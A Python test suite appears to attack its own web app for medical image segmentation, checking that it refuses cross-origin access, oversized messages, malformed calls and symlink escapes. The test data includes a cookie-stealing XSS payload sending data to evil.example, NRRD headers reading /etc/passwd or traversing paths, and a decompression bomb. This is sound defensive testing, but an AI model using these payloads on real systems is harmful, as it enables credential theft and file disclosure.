"""The web app under attack: other websites, hostile clients of its websocket, hostile files and links.

The server runs for real (``isdnet-web`` on a free loopback port, default settings: no token); the attacks come
from ``web_client.WslinkClient``, which sends what another site's script or any local program can send. The
workspace's rules are also tested on their own and on a Slicer scene (``WebSession``).
"""

from __future__ import annotations

import asyncio
import gzip
import os
import re
import signal
import time
from pathlib import Path

import aiohttp
import pytest
import SimpleITK as sitk
from web_client import Server, WslinkClient, chunk, secret_of, trigger_names

from isdnet.phantoms import write_phantom_dataset
from ISDNetWeb.security import Workspace, WorkspaceError, check_volume

EVIL = "http://evil.example"
TINY = "--base-channels 4 --batch-size 2 --slice-size 32 32 --seed 0 --precision fp32"


@pytest.fixture
def served(tmp_path):
    """A running server on a workspace with three phantoms; yields (url, workspace, server)."""
    workspace = tmp_path / "workspace"
    write_phantom_dataset(workspace / "phantoms", 2, shape=(12, 48, 48))
    server = Server(workspace, "--train-options", TINY, "--max-upload-mb", "1")
    try:
        yield server.url(), workspace, server
    finally:
        server.stop()


def run(scenario):
    return asyncio.run(scenario)


async def authenticated(url: str) -> WslinkClient:
    client = await WslinkClient.connect(url)
    assert "result" in await client.hello(secret_of(url))
    return client


def resident_mib(pid: int) -> int:
    return int(re.search(r"VmRSS:\s+(\d+)", Path(f"/proc/{pid}/status").read_text()).group(1)) // 1024


def children(pid: int) -> list[int]:
    """The processes whose parent is ``pid``."""
    found = []
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = stat.read_text().rsplit(")", 1)[1].split()
        except OSError:
            continue
        if int(fields[1]) == pid:
            found.append(int(stat.parent.name))
    return found


def alive(pid: int) -> bool:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False


# ----- finding 1: other websites
def test_another_website_can_neither_connect_nor_authenticate(served):
    url, _, _ = served
    root = url.rstrip("/")

    async def scenario() -> None:
        async with aiohttp.ClientSession() as session:
            for origin in (EVIL, "null", "http://127.0.0.1:1"):  # another site, a sandboxed page, another port
                async with session.get(root + "/", headers={"Origin": origin}) as answer:
                    assert answer.status == 403
                async with session.post(root + "/paraview/", headers={"Origin": origin}, data=b"{}") as answer:
                    assert answer.status == 403  # the page's secret is not handed to another site
                with pytest.raises(aiohttp.WSServerHandshakeError) as refused:
                    await WslinkClient.connect(url, origin=origin)
                assert refused.value.status == 403
            async with session.get(root + "/", headers={"Origin": root}) as answer:
                assert answer.status == 200  # the app's own page
        client = await WslinkClient.connect(url, origin=root)
        try:
            assert "error" in await client.hello("wslink-secret")  # wslink's public default secret opens nothing
            assert "error" in await client.trigger("trigger__20")
        finally:
            await client.close()
        secret = secret_of(url)
        assert len(secret) >= 32 and secret != "wslink-secret"
        client = await WslinkClient.connect(url, origin=root)
        try:
            assert "result" in await client.hello(secret)
        finally:
            await client.close()

    run(scenario())


# ----- finding 2: stored XSS
def test_a_client_cannot_change_what_the_page_shows_to_others(served):
    url, _, _ = served
    payload = "<img src=x onerror=\"fetch('http://evil.example/'+document.cookie)\">"

    async def scenario() -> None:
        attacker, victim = await authenticated(url), await authenticated(url)
        try:
            before = await victim.state()
            assert 'v-html' not in before["trame__template_main"]
            assert before["chart"].startswith("data:image/svg+xml;base64,")
            await attacker.set_state(chart=payload, chart_svg=payload, message=payload, trame__template_main=payload,
                                     trame__vue_use=["alert(1)"], trame__title=payload, volumes=[{"name": payload}],
                                     model_name={"not": "plain"})
            await attacker.set_state(Red__SliderState__max_value=99)  # a view's bound, not an input
            await attacker.set_state(model_name="my model", Red__SliderState__value=0.25)  # inputs: the client's
            after = await victim.state()
            for key in ("chart", "message", "trame__template_main", "trame__vue_use", "trame__title", "volumes",
                        "Red__SliderState__max_value"):
                assert after[key] == before[key], key
            assert "chart_svg" not in after
            assert (after["model_name"], after["Red__SliderState__value"]) == ("my model", 0.25)
        finally:
            await attacker.close()
            await victim.close()

    run(scenario())


# ----- finding 5: unbounded messages
def test_a_message_claiming_a_gibibyte_allocates_nothing(served):
    url, _, server = served

    async def scenario() -> None:
        stranger = await WslinkClient.connect(url)
        await stranger.websocket.send_bytes(chunk(b"\x80", claimed_size=2**30))  # before any hello
        assert (await stranger.websocket.receive(timeout=10)).type in (aiohttp.WSMsgType.CLOSE,
                                                                        aiohttp.WSMsgType.CLOSED)
        await stranger.close()
        before = resident_mib(server.process.pid)
        client = await authenticated(url)
        await client.websocket.send_bytes(chunk(b"\x80", claimed_size=2**30 - 1))  # 28 bytes that claim 1 GiB
        assert (await client.websocket.receive(timeout=10)).type in (aiohttp.WSMsgType.CLOSE,
                                                                      aiohttp.WSMsgType.CLOSED)
        await client.close()
        assert resident_mib(server.process.pid) - before < 200
        client = await authenticated(url)
        for _ in range(5):  # half-sent messages, each within the limit: the fifth is one too many
            await client.websocket.send_bytes(chunk(b"\x80", claimed_size=1000))
        assert (await client.websocket.receive(timeout=10)).type in (aiohttp.WSMsgType.CLOSE,
                                                                      aiohttp.WSMsgType.CLOSED)
        await client.close()
        client = await authenticated(url)  # the server goes on serving
        assert "trame__template_main" in await client.state()
        await client.close()

    run(scenario())


# ----- findings 6 and 7: a second Train, and SIGTERM to the server
async def start_training(client: WslinkClient, server: Server) -> tuple[dict[str, str], list[int]]:
    """Load two phantoms with their labels, start a long training; returns the triggers and its process."""
    names = trigger_names(await client.state())
    for case in ("phantom_000", "phantom_001"):
        for kind, folder in (("image", "imagesTr"), ("label", "labelsTr")):
            await client.set_state(load_kind=kind, workspace_file=f"phantoms/{folder}/{case}.nii.gz")
            await client.trigger(names["load-file"])
    await client.set_state(model_name="long", epochs=500)
    await client.trigger(names["train"])
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        started = children(server.process.pid)
        if started:
            return names, started
        await asyncio.sleep(0.2)
    raise AssertionError("no training process started: " + (await client.state())["message"])


def test_a_second_train_is_refused_and_the_running_one_left_alone(served):
    url, workspace, server = served

    async def scenario() -> None:
        client = await authenticated(url)
        try:
            names, _ = await start_training(client, server)
            dataset = workspace / "datasets" / "long" / "dataset.json"
            exported = (dataset.read_bytes(), dataset.stat().st_mtime_ns)
            await client.set_state(model_name="other")
            answer = await client.trigger(names["train"])  # a double click, or another tab
            state = await client.state()
            assert "error" not in answer and "a training is running already" in state["message"]
            assert state["train_state"] == "running"
            assert (dataset.read_bytes(), dataset.stat().st_mtime_ns) == exported
            assert not (workspace / "datasets" / "other").exists()
        finally:
            await client.close()

    run(scenario())


def test_stopping_the_server_with_sigterm_stops_its_training(served):
    url, _, server = served
    started: list[int] = []

    async def scenario() -> None:
        client = await authenticated(url)
        try:
            started.extend((await start_training(client, server))[1])
        finally:
            await client.close()

    try:
        run(scenario())
        os.kill(server.process.pid, signal.SIGTERM)  # the server alone, not its process group
        server.process.wait(60)
        deadline = time.monotonic() + 20
        while any(alive(pid) for pid in started) and time.monotonic() < deadline:
            time.sleep(0.2)
        assert not any(alive(pid) for pid in started), "the training outlived the server"
    finally:
        for pid in started:
            if alive(pid):
                os.killpg(pid, signal.SIGKILL)  # the training this test started, in its own process group


# ----- finding 8: malformed calls
def test_malformed_calls_get_one_line_and_no_traceback(served):
    url, _, _ = served

    async def scenario() -> None:
        client = await authenticated(url)
        try:
            names = trigger_names(await client.state())
            calls = [(names["upload"], [None]), (names["upload"], [[5]]), (names["upload"], [[{"name": 5}]]),
                     (names["upload"], [[{"name": "a.nrrd", "content": {"x": 1}}]]), (names["upload"], ["text"]),
                     (names["load-file"], [{"unexpected": "argument"}]), ("trigger__99999", []), (None, [])]
            for name, args in calls:
                answer = await client.trigger(name, *args)
                assert "trace" not in str(answer) and "Traceback" not in str(answer), answer
                message = (await client.state())["message"]
                assert "Traceback" not in message and "\n" not in message, message
            for epochs in (None, "", "ten", 2.5, -1, True):
                await client.set_state(epochs=epochs)
                await client.trigger(names["train"])
                message = (await client.state())["message"]
                assert message.startswith("epochs must be a whole number of at least 1"), (epochs, message)
            for garbage in ({"wslink": "1.0", "id": "rpc:x:1", "method": "trame.state.update", "args": "text"},
                            {"wslink": "1.0", "id": "rpc:x:2", "method": "trame.trigger", "args": [[1], 2, 3]}):
                await client.send(garbage)
                answer = await client.reply(garbage["id"])
                assert "trace" not in str(answer), answer
        finally:
            await client.close()

    run(scenario())


# ----- finding 3: detached data files and decompression bombs, through the page
def nrrd_header(data_file: str = "", sizes: str = "8 8 4", encoding: str = "raw") -> bytes:
    field = f"data file: {data_file}\n" if data_file else ""
    return (f"NRRD0004\ntype: uint8\ndimension: 3\nsizes: {sizes}\nencoding: {encoding}\n{field}").encode()


def test_uploads_with_detached_data_or_huge_headers_are_refused(served, tmp_path):
    url, workspace, _ = served
    # 4 MiB of zeros, gzipped to 4 kB, under a header that announces 2**40 voxels: 30 TB to decode, on any machine
    bomb = nrrd_header(sizes="16384 16384 4096", encoding="gzip") + b"\n" + gzip.compress(b"\0" * 2**22)
    uploads = {"passwd.nrrd": nrrd_header("/etc/passwd"), "up.nrrd": nrrd_header("../../outside.raw"),
               "zero.nrrd": nrrd_header("/dev/zero"), "bomb.nrrd": bomb}

    async def scenario() -> None:
        client = await authenticated(url)
        try:
            names = trigger_names(await client.state())
            for name, content in uploads.items():
                await client.trigger(names["upload"], [{"name": name, "size": len(content), "content": content}], [])
                message = (await client.state())["message"]
                assert name in message and ("keeps its voxels in another file" in message or "memory" in message), \
                    message
                assert not (workspace / "uploads" / name).exists()
            assert (await client.state())["volumes"] == []
        finally:
            await client.close()

    run(scenario())


def test_workspace_volumes_read_no_data_outside_and_no_more_than_memory_allows(tmp_path, monkeypatch):
    workspace = Workspace(tmp_path / "ws")
    (tmp_path / "outside.raw").write_bytes(bytes(256))
    (workspace.root / "inside.raw").write_bytes(bytes(256))
    cases = {"inside.nrrd": (nrrd_header("inside.raw"), None),
             "outside.nrrd": (nrrd_header("../outside.raw"), "takes its voxels from outside.raw, outside"),
             "absolute.nrrd": (nrrd_header(str(tmp_path / "outside.raw")), "outside the workspace"),
             "zero.nrrd": (nrrd_header("/dev/zero"), "outside the workspace"),
             "list.nrrd": (nrrd_header("LIST") + b"inside.raw\n../outside.raw\n", "outside the workspace"),
             "bomb.nrrd": (nrrd_header(sizes="4096 4096 1024", encoding="gzip") + b"\n" + gzip.compress(bytes(64)),
                           "needs about .* of memory")}
    (workspace.root / "link.raw").symlink_to(tmp_path / "outside.raw")
    cases["linked.nrrd"] = (nrrd_header("link.raw"), "outside the workspace")
    monkeypatch.setenv("ISDNET_AVAILABLE_MEMORY", str(2**30))
    for name, (content, problem) in cases.items():
        path = workspace.root / name
        path.write_bytes(content)
        if problem is None:
            check_volume(workspace, path, label=False, uploaded=False)
            with pytest.raises(WorkspaceError, match="keeps its voxels in another file"):
                check_volume(workspace, path, label=False, uploaded=True)
        else:
            with pytest.raises(WorkspaceError, match=problem):
                check_volume(workspace, path, label=False, uploaded=False)
    os.mkfifo(workspace.root / "pipe.nrrd")
    with pytest.raises(WorkspaceError, match="is not a file"):
        check_volume(workspace, workspace.root / "pipe.nrrd", label=True, uploaded=False)


# ----- finding 4: links
def test_links_never_lead_a_read_write_or_delete_outside(tmp_path):
    import slicer_fixture as fx

    from ISDNetWeb.security import Upload
    from ISDNetWeb.session import VolumeEntry, WebSession

    outside = tmp_path / "outside"
    (outside / "imagesTr").mkdir(parents=True)
    (outside / "imagesTr" / "precious.nii.gz").write_bytes(b"precious")
    (outside / "notes.seg.nrrd").write_bytes(b"notes")
    workspace = Workspace(tmp_path / "ws")
    for folder in ("datasets", "models", "segmentations", "uploads"):
        (workspace.root / folder).mkdir()
    (workspace.root / "datasets" / "linked").symlink_to(outside)
    (workspace.root / "datasets" / "inner").mkdir()
    (workspace.root / "datasets" / "inner" / "imagesTr").symlink_to(outside / "imagesTr")
    (workspace.root / "models" / "logged.log").symlink_to(outside / "log.txt")
    (workspace.root / "segmentations" / "case.seg.nrrd").symlink_to(outside / "notes.seg.nrrd")
    (workspace.root / "uploads" / "scan.nii.gz").symlink_to(outside / "dangling.nii.gz")

    mrml = fx.make_scene()
    session = WebSession(mrml.scene, mrml.logics["Volumes"], workspace, [], "cpu")
    for name in ("linked", "inner", "logged"):
        with pytest.raises(WorkspaceError, match="leads outside the workspace"):
            session.start_training(name, "baseline", 1)
    image, labels = fx.phantom((12, 32, 32))
    volume = fx.add_volume(mrml.scene, image, "case")
    entry = session.volumes[volume.GetID()] = VolumeEntry(volume, "test")
    entry.result = fx.add_segmentation(mrml.scene, volume, labels, fx.ORGAN_NAMES, fx.ORGAN_COLORS)
    with pytest.raises(WorkspaceError, match="leads outside the workspace"):
        session.segmentation_file(volume.GetID())
    saved = Upload("scan.nii.gz", b"uploaded").save(workspace.root / "uploads")
    assert saved.name == "scan_2.nii.gz" and saved.read_bytes() == b"uploaded"
    assert sorted(p.name for p in outside.rglob("*")) == ["imagesTr", "notes.seg.nrrd", "precious.nii.gz"]
    assert (outside / "notes.seg.nrrd").read_bytes() == b"notes"
    with pytest.raises(WorkspaceError, match="leads outside the workspace"):
        workspace.resolve("datasets/linked/imagesTr/precious.nii.gz")


# ----- finding 8: a huge workspace
def test_the_workspace_listing_reads_a_bounded_number_of_entries(tmp_path, monkeypatch):
    """200 000 files took 1.7 s a listing, on the server's event loop: now a listing reads at most
    ``max_entries`` folder entries, the workspace's top level first."""
    workspace = Workspace(tmp_path / "ws")
    junk = workspace.root / "junk"
    junk.mkdir()
    for i in range(3000):
        (junk / f"{i}.nii.gz").touch()
    sitk.WriteImage(sitk.Image(4, 4, 4, sitk.sitkUInt8), str(workspace.root / "scan.nii.gz"))
    read = []
    real_scandir = os.scandir

    class CountingScandir:
        def __init__(self, path):
            self.entries = real_scandir(path)

        def __enter__(self):
            return self

        def __exit__(self, *_):
            self.entries.close()

        def __iter__(self):
            for entry in self.entries:
                read.append(entry.name)
                yield entry

    monkeypatch.setattr(os, "scandir", CountingScandir)
    listed = workspace.files(max_entries=500)
    assert len(read) <= 500 and "scan.nii.gz" in listed and len(listed) < 500
